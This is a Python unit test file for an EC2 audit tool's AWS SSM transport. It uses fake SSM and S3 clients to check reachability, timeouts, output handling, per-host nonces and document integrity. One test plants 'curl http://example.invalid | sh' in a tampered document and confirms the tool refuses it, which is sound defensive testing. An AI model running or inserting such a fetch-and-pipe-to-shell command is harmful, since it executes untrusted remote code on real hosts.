"""The SSM transport's decisions against a fake SSM API (unit level: the real stand-in is in
tests/integration/reach/test_ssm_standin.py): who is reachable, how calls are chunked and split, what a finished,
timed-out, cut or never-finishing invocation becomes."""
from __future__ import annotations

import asyncio
import io

import pytest
from botocore.exceptions import ClientError

from include.core.host import Host
from include.core.status import Status
from include.reach.ssm import INLINE_LIMIT, Registration, SsmSettings, SsmTransport, s3_key
from include.reach.transport import split_for_auto, ssh_side
from tests import factories


def host(n: int) -> Host:
    return factories.host(f"i-{n:017x}", f"10.0.0.{n % 250}")


def denied(op: str) -> ClientError:
    return ClientError({"Error": {"Code": "AccessDeniedException", "Message": "not authorized"}}, op)


class FakeSsm:
    """Registrations, commands that finish as `finish(instance_id)` says, output as `output(instance_id)`."""

    def __init__(self, managed: dict[str, str], finish=lambda iid: ("Success", "Success"),
                 output=lambda iid: "out", deny: set[str] = frozenset(), deny_describe: bool = False):
        self.managed, self.finish, self.output, self.deny = managed, finish, output, deny
        self.deny_describe = deny_describe
        self.sent: list[dict] = []
        self.calls: dict[str, int] = {}
        self.commands: dict[str, list[str]] = {}

    def _count(self, name):
        self.calls[name] = self.calls.get(name, 0) + 1

    def get_paginator(self, name):
        fake = self

        class Paginator:
            def paginate(self, **kw):
                if name == "describe_instance_information":
                    fake._count(name)
                    if fake.deny_describe:
                        raise denied("DescribeInstanceInformation")
                    ids = kw["Filters"][0]["Values"]
                    assert len(ids) <= 50
                    yield {"InstanceInformationList": [{"InstanceId": i, "PingStatus": fake.managed[i],
                                                        "AgentVersion": "3.3.1"} for i in ids if i in fake.managed]}
                else:
                    fake._count(name)
                    cid = kw["CommandId"]
                    assert kw["Details"] is True
                    invs = []
                    for iid in fake.commands[cid]:
                        status, details = fake.finish(iid)
                        invs.append({"InstanceId": iid, "Status": status, "StatusDetails": details,
                                     "CommandPlugins": [{"Output": fake.output(iid)[:2500]}]})
                    yield {"CommandInvocations": invs}

        return Paginator()

    def send_command(self, **kw):
        self._count("send_command")
        ids = kw["InstanceIds"]
        assert len(ids) <= 50
        if self.deny & set(ids):
            raise denied("SendCommand")
        cid = f"cmd-{len(self.commands)}"
        self.commands[cid] = list(ids)
        self.sent.append(kw)
        return {"Command": {"CommandId": cid}}

    def get_command_invocation(self, CommandId, InstanceId, PluginName):
        self._count("get_command_invocation")
        return {"StandardOutputContent": self.output(InstanceId)[:INLINE_LIMIT]}


def run(fake, hosts, settings=None, s3=None):
    outcomes = {}

    async def collect(h, o):
        assert h.instance_id not in outcomes, "one outcome per host"
        outcomes[h.instance_id] = o

    transport = SsmTransport(fake, s3, settings or SsmSettings(poll_s=0.01), tag="abcdef0123456789")
    asyncio.run(transport.run(hosts, "echo checks\n", collect))
    return outcomes, transport


def test_unmanaged_and_offline_hosts_are_unreachable_with_the_reason_and_nothing_is_sent_to_them():
    a, b, c = host(1), host(2), host(3)
    fake = FakeSsm({a.instance_id: "Online", b.instance_id: "ConnectionLost"})
    out, _ = run(fake, [a, b, c])
    assert out[a.instance_id].transport_status is None and out[a.instance_id].output == b"out"
    assert out[b.instance_id].transport_status == Status.UNREACHABLE
    assert "ConnectionLost" in out[b.instance_id].transport_detail
    assert out[c.instance_id].transport_status == Status.UNREACHABLE
    assert "not managed by SSM" in out[c.instance_id].transport_detail
    assert [s["InstanceIds"] for s in fake.sent] == [[a.instance_id]]
    assert out[a.instance_id].transport == "ssm"
    assert out[a.instance_id].transport_evidence["ssm_ping_status"] == "Online"
    assert out[a.instance_id].transport_evidence["ssm_command_id"] == "cmd-0"


def test_a_large_batch_goes_out_one_command_a_host_and_one_read_per_host():
    hosts = [host(n) for n in range(1, 121)]
    fake = FakeSsm({h.instance_id: "Online" for h in hosts})
    out, transport = run(fake, hosts, SsmSettings(poll_s=0.01, max_concurrency=20, command_timeout=45))
    assert [s["InstanceIds"] for s in fake.sent] == [[h.instance_id] for h in hosts]
    first = fake.sent[0]
    assert first["DocumentName"] == "AWS-RunShellScript" and first["MaxConcurrency"] == "20"
    assert first["MaxErrors"] == "100%" and first["Parameters"]["executionTimeout"] == ["45"]
    assert first["Parameters"]["commands"][0].endswith("echo checks\n")
    assert fake.calls["get_command_invocation"] == 120  # one read per finished host
    assert fake.calls["list_command_invocations"] == 120  # all finished at the first look: one a command
    assert fake.calls["describe_instance_information"] == 3  # still 50 ids a page
    assert all(o.transport_status is None for o in out.values())
    nonces = {o.nonce for o in out.values()}  # each host its own
    assert len(nonces) == 120 and all(len(n) == 32 for n in nonces)
    assert transport.calls["SendCommand"] == 120


def test_a_call_denied_for_one_instance_is_split_so_only_that_host_is_auth_failed():
    hosts = [host(n) for n in range(1, 6)]
    fake = FakeSsm({h.instance_id: "Online" for h in hosts}, deny={hosts[2].instance_id})
    out, _ = run(fake, hosts)
    assert out[hosts[2].instance_id].transport_status == Status.AUTH_FAILED
    assert "ssm:SendCommand refused: AccessDeniedException" in out[hosts[2].instance_id].transport_detail
    assert all(out[h.instance_id].transport_status is None for h in hosts if h is not hosts[2])


def test_a_denied_describe_makes_every_host_auth_failed():
    hosts = [host(1), host(2)]
    out, _ = run(FakeSsm({}, deny_describe=True), hosts)
    assert {o.transport_status for o in out.values()} == {Status.AUTH_FAILED}
    assert "DescribeInstanceInformation refused" in out[hosts[0].instance_id].transport_detail


@pytest.mark.parametrize("finish, status, words", [
    (("TimedOut", "ExecutionTimedOut"), Status.ERROR, "timedout"),
    (("Cancelled", "Cancelled"), Status.ERROR, "cancelled"),
    (("TimedOut", "DeliveryTimedOut"), Status.UNREACHABLE, "did not deliver"),
])
def test_an_invocation_that_did_not_run_to_the_end_is_never_judged(finish, status, words):
    h = host(1)
    fake = FakeSsm({h.instance_id: "Online"}, finish=lambda iid: finish)
    out, _ = run(fake, [h])
    assert out[h.instance_id].transport_status == status
    assert words in out[h.instance_id].transport_detail.lower()
    assert out[h.instance_id].output == b""
    assert "get_command_invocation" not in fake.calls


def test_output_at_ssm_s_inline_limit_is_error_not_judged():
    h = host(1)
    fake = FakeSsm({h.instance_id: "Online"}, output=lambda iid: "x" * (INLINE_LIMIT + 10))
    out, _ = run(fake, [h])
    assert out[h.instance_id].transport_status == Status.ERROR
    assert "output truncated by SSM" in out[h.instance_id].transport_detail


def test_with_an_output_bucket_the_full_output_comes_from_s3():
    h = host(1)
    full = b"y" * (INLINE_LIMIT * 2)
    fake = FakeSsm({h.instance_id: "Online"}, output=lambda iid: "cut")

    class FakeS3:
        keys: list[str] = []

        def get_object(self, Bucket, Key, Range, ExpectedBucketOwner):
            self.keys.append((Bucket, Key))
            return {"Body": io.BytesIO(full)}

    s3 = FakeS3()
    out, _ = run(fake, [h], SsmSettings(poll_s=0.01, output_bucket="audit-out", output_bucket_owner="123456789012"),
                 s3)
    assert out[h.instance_id].transport_status is None and out[h.instance_id].output == full
    assert s3.keys == [("audit-out", s3_key("ec2-audit-ssm", "cmd-0", h.instance_id))]
    assert s3.keys[0][1] == f"ec2-audit-ssm/cmd-0/{h.instance_id}/awsrunShellScript/0.awsrunShellScript/stdout"
    assert "get_command_invocation" not in fake.calls


def test_a_command_that_never_finishes_is_error_after_the_budget():
    h = host(1)
    fake = FakeSsm({h.instance_id: "Online"}, finish=lambda iid: ("InProgress", "InProgress"))
    settings = SsmSettings(poll_s=0.01, delivery_timeout=0, command_timeout=0, slack_s=0.05)
    out, _ = run(fake, [h], settings)
    assert out[h.instance_id].transport_status == Status.ERROR
    assert "did not finish" in out[h.instance_id].transport_detail


def test_auto_takes_online_managed_hosts_for_ssm_and_leaves_the_rest_to_ssh():
    a, b, c = host(1), host(2), host(3)
    regs = {a.instance_id: Registration(a.instance_id, "Online"), b.instance_id: Registration(b.instance_id, "Inactive")}
    assert split_for_auto([a, b, c], regs) == ([a], [b, c])
    assert ssh_side("auto", has_key=True) == "ssh" and ssh_side("auto", has_key=False) == "eic"
    assert ssh_side("ssm", has_key=True) is None and ssh_side("eic", has_key=True) == "eic"


# ------------------------------------------------------------------ the audit's own document (include/reach/ssm_document.py)

class FakeSsmWithDocument(FakeSsm):
    def __init__(self, managed, document_content: str, **kw):
        super().__init__(managed, **kw)
        self.document_content = document_content

    def get_document(self, Name, DocumentFormat):
        self._count("get_document")
        return {"Name": Name, "DocumentVersion": "7", "Content": self.document_content}


def test_with_the_audit_document_only_the_nonce_travels_and_the_checked_version_is_sent():
    import json

    from include.reach import ssm_document

    h = host(1)
    fake = FakeSsmWithDocument({h.instance_id: "Online"}, json.dumps(ssm_document.content("echo checks\n")))
    out, transport = run(fake, [h], SsmSettings(poll_s=0.01, document="EC2Audit-ReadOnlyChecks", command_timeout=30))
    sent = fake.sent[0]
    assert (sent["DocumentName"], sent["DocumentVersion"]) == ("EC2Audit-ReadOnlyChecks", "7")
    assert set(sent["Parameters"]) == {"nonce", "executionTimeout"}
    assert sent["Parameters"]["nonce"] == [out[h.instance_id].nonce]
    assert out[h.instance_id].transport_status is None
    assert out[h.instance_id].transport_evidence["ssm_document"] == "EC2Audit-ReadOnlyChecks:7"


def test_a_document_that_is_not_this_release_s_script_runs_nowhere():
    import json

    from include.reach import ssm_document

    h = host(1)
    tampered = ssm_document.content("echo checks\n")
    tampered["mainSteps"][0]["inputs"]["runCommand"].append("curl http://example.invalid | sh")
    fake = FakeSsmWithDocument({h.instance_id: "Online"}, json.dumps(tampered))
    out, _ = run(fake, [h], SsmSettings(poll_s=0.01, document="EC2Audit-ReadOnlyChecks"))
    assert out[h.instance_id].transport_status == Status.ERROR
    assert "does not hold this release's audit script" in out[h.instance_id].transport_detail
    assert fake.sent == []


def test_the_document_holds_the_script_with_the_nonce_as_its_only_free_input():
    from include.checks.catalogue import SCRIPT
    from include.checks.probes import NONCE_VAR
    from include.reach import ssm_document

    doc = ssm_document.content(SCRIPT)
    step = doc["mainSteps"][0]
    assert step["action"] == "aws:runShellScript" and step["name"] == ssm_document.STEP
    assert "\n".join(step["inputs"]["runCommand"][1:]) + "\n" == SCRIPT
    assert step["inputs"]["runCommand"][0] == f"{NONCE_VAR}={{{{ nonce }}}}"
    assert doc["parameters"]["nonce"]["allowedPattern"] == "^[0-9a-f]{32}$"
    assert set(doc["parameters"]) == {"nonce", "executionTimeout"}  # no canary tag: it runs no canary
    with pytest.raises(ValueError):
        ssm_document.content("echo {{ injected }}\n")


# -- issue 25 item 9: SSM output in S3 is this host's
def _nonce_of(command: dict) -> str:
    """The nonce a SendCommand carried: the document's parameter, or the framed script's first line."""
    params = command["Parameters"]
    if "nonce" in params:
        return params["nonce"][0]
    first = params["commands"][0].split("\n", 1)[0]
    assert first.startswith("EC2AUDIT_NONCE=")
    return first.split("=", 1)[1]


def test_every_host_gets_a_nonce_of_its_own_that_no_other_host_is_sent():
    hosts = [host(n) for n in range(1, 61)]
    fake = FakeSsm({h.instance_id: "Online" for h in hosts})
    out, transport = run(fake, hosts)
    sent_to = {}
    for command in fake.sent:
        for iid in command["InstanceIds"]:
            sent_to.setdefault(_nonce_of(command), set()).add(iid)
    assert all(len(ids) == 1 for ids in sent_to.values()), "a nonce went to more than one host"
    assert {o.nonce for o in out.values()} == set(sent_to) and len(sent_to) == 60
    assert all(sent_to[out[h.instance_id].nonce] == {h.instance_id} for h in hosts)
    assert transport.calls["SendCommand"] == 60  # one SendCommand a host: the price of a nonce per host


def test_a_peer_hosts_object_in_the_bucket_is_not_this_hosts_output():
    """Host A's role may write B's key in the bucket (a peer's PutObject): A's own, perfectly framed output
    written there never reads as B's, because A was never sent B's nonce."""
    from include.checks.sections import render_sections, split_sections

    a, b = host(1), host(2)
    fake = FakeSsm({a.instance_id: "Online", b.instance_id: "Online"})

    class PeerWritesS3:
        def get_object(self, Bucket, Key, Range, ExpectedBucketOwner):
            peer = next(c for c in fake.sent if a.instance_id in c["InstanceIds"])  # what A was sent
            return {"Body": io.BytesIO(render_sections({"auditd_installed": "binary: /usr/sbin/auditd"},
                                                       _nonce_of(peer)).encode())}

    settings = SsmSettings(poll_s=0.01, output_bucket="audit-out", output_bucket_owner="123456789012")
    out, _ = run(fake, [a, b], settings, PeerWritesS3())
    assert not split_sections(out[b.instance_id].output.decode(), out[b.instance_id].nonce).complete


def test_every_s3_read_names_the_expected_bucket_owner():
    h = host(1)
    fake = FakeSsm({h.instance_id: "Online"})
    reads = []

    class FakeS3:
        def get_object(self, **kw):
            reads.append(kw)
            return {"Body": io.BytesIO(b"out")}

    settings = SsmSettings(poll_s=0.01, output_bucket="audit-out", output_bucket_owner="123456789012")
    out, _ = run(fake, [h], settings, FakeS3())
    assert out[h.instance_id].output == b"out"
    assert [r["ExpectedBucketOwner"] for r in reads] == ["123456789012"]


def test_an_output_bucket_without_its_owner_is_refused():
    with pytest.raises(ValueError, match="ssm_output_bucket_owner"):
        SsmTransport(FakeSsm({}), object(), SsmSettings(output_bucket="audit-out"))
